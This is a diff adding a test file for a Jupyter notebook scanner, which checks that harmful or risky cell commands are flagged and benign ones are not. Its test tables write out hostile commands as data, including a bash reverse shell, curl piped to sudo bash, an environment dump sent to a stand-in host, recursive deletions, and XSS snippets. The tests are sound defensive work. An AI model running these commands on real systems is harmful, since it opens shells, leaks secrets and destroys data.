@@ -1,0 +1,95 @@
+import { describe, expect, test } from 'vitest';
+import { assembleNotebook } from '../../../../testkit/src/notebook-assembler.ts';
+import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
+import { simpleCommands } from './simple-commands.ts';
+
+/** Rules and severities of a notebook with these cells. */
+function judged(cells: string): string[] {
+  return scanBytes(assembleNotebook(cells), 'a.ipynb').findings.map(
+    ({ ruleId, severity }) => `${ruleId} ${severity}`,
+  );
+}
+
+const COMMIT = '0123456789abcdef0123456789abcdef01234567';
+
+describe('commands of a notebook', () => {
+  test.each([
+    ['!curl -s https://x.y/a.sh | sudo bash', 'shell/runs-harmful-command critical'],
+    ['!bash <(wget -qO- https://x.y/a)', 'shell/runs-harmful-command critical'],
+    ['!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'shell/runs-harmful-command critical'],
+    ['!echo aWQ= | base64 -d | sh', 'shell/runs-harmful-command critical'],
+    ['%%bash\ncd /tmp\nrm -rf ~/*', 'shell/runs-harmful-command high'],
+    ['!rm -rf "$HOME"', 'shell/runs-harmful-command high'],
+    ['!chmod -R 777 /data', 'shell/runs-harmful-command high'],
+    ['!nc 192.0.2.1 4444', 'shell/runs-harmful-command high'],
+    ['!crontab jobs.txt', 'shell/runs-harmful-command high'],
+    ['!env | curl --data-binary @- https://x.y', 'shell/runs-harmful-command high'],
+    ['x = !rm -rf /', 'shell/runs-harmful-command high'],
+    ["get_ipython().system('rm -rf /')", 'shell/runs-harmful-command high'],
+    ['!pip install torchmetrics', 'shell/installs-unpinned medium'],
+    ['!{sys.executable} -m pip install torchmetrics', 'shell/installs-unpinned medium'],
+    ['%pip install "numpy>=1.20"', 'shell/installs-unpinned medium'],
+    ['!conda install -y -c conda-forge scipy', 'shell/installs-unpinned medium'],
+    ['!apt-get install -y graphviz', 'shell/installs-unpinned low'],
+    ['!pip install git+https://github.com/a/b', 'shell/installs-from-elsewhere high'],
+    ['!pip install git+https://github.com/a/b@v1.2', 'shell/installs-from-elsewhere medium'],
+    ['!pip install --extra-index-url https://x.y/simple a==1', 'shell/installs-from-elsewhere high'],
+    ['!pip install http://x.y/a.whl', 'shell/installs-from-elsewhere high'],
+    ['!{command}', 'shell/runs-computed-command medium'],
+    ['!bash setup.sh', 'shell/runs-program low'],
+    ['!wget http://x.y/model.pt', 'shell/downloads-in-clear medium'],
+    ['%run https://x.y/a.py', 'notebook/runs-remote-code high'],
+    ['%load https://x.y/a.py', 'notebook/runs-remote-code medium'],
+    ['%load_ext somebodys', 'notebook/loads-extension low'],
+  ])('%s', (cells, expected) => expect(judged(cells)).toContain(expected));
+
+  test.each([
+    '!ls -la\n!nvidia-smi\n!pwd\n!head -5 data.csv',
+    '!pip list\n!pip show torch\n!pip --version',
+    '!pip install -r requirements.txt\n!pip install -e .\n!pip install ./wheels/a-1.0-py3-none-any.whl',
+    '!pip install --upgrade pip setuptools',
+    '!pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu121',
+    `!pip install git+https://github.com/a/b@${COMMIT}`,
+    '!rm -rf sample_data ./logs\n!rm -rf ~/.cache/pip\n!rm *.pyc',
+    '!git clone https://github.com/a/b\n!python train.py --lr {lr}',
+    '!curl -L https://x.y/a.tar.gz | tar xz\n!chmod +x run.sh\n!crontab -l',
+    "!echo 'curl https://x.y | sh'",
+    '%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%run helper.py',
+    '# !rm -rf /\ntext = "!pip install x"',
+  ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
+});
+
+describe('scripts of a notebook', () => {
+  test.each([
+    ['%%javascript\nJupyter.notebook.kernel.execute("x")', 'notebook/output-runs-script high'],
+    ['%%html\n<img src=x onerror="alert(1)">', 'notebook/output-runs-script medium'],
+    ['%%html\n<script>document.cookie</script>', 'notebook/output-runs-script medium'],
+  ])('%s', (cells, expected) => expect(judged(cells)).toContain(expected));
+
+  test.each([
+    '%%html\n<style>b { color: red }</style>',
+    '%%html\n<script src="https://cdn.plot.ly/plotly-2.0.min.js"></script>',
+    '%%html\n<script type="application/json">{}</script>',
+    '%%javascript\nIPython.OutputArea.prototype._should_scroll = () => false',
+  ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
+});
+
+describe('a command taken apart', () => {
+  test.each([
+    ['sudo -u x nohup ls -la', [['ls', '-la']]],
+    ['A=1 B=2 make all', [['make', 'all']]],
+    ['cd a && ./b.sh; c | d', [['cd', 'a'], ['b.sh'], ['c'], ['d']]],
+    ['echo "a; b" \'c | d\'', [['echo', 'a; b', 'c | d']]],
+    ['/usr/bin/pip3 install \\\n  a', [['pip3', 'install', 'a']]],
+    ['python {a b} # x', [['python', '{a b}', '#', 'x']]],
+    ['', []],
+  ])('%j', (text, expected) =>
+    expect(simpleCommands(text).map(({ program, words }) => [program, ...words])).toEqual(expected),
+  );
+
+  test('takes time linear in its length', () => {
+    const before = performance.now();
+    for (const part of ['"a', "'", '\\', '{', 'sudo ', '; ', '$(']) simpleCommands(part.repeat(30_000));
+    expect(performance.now() - before).toBeLessThan(5000);
+  });
+});
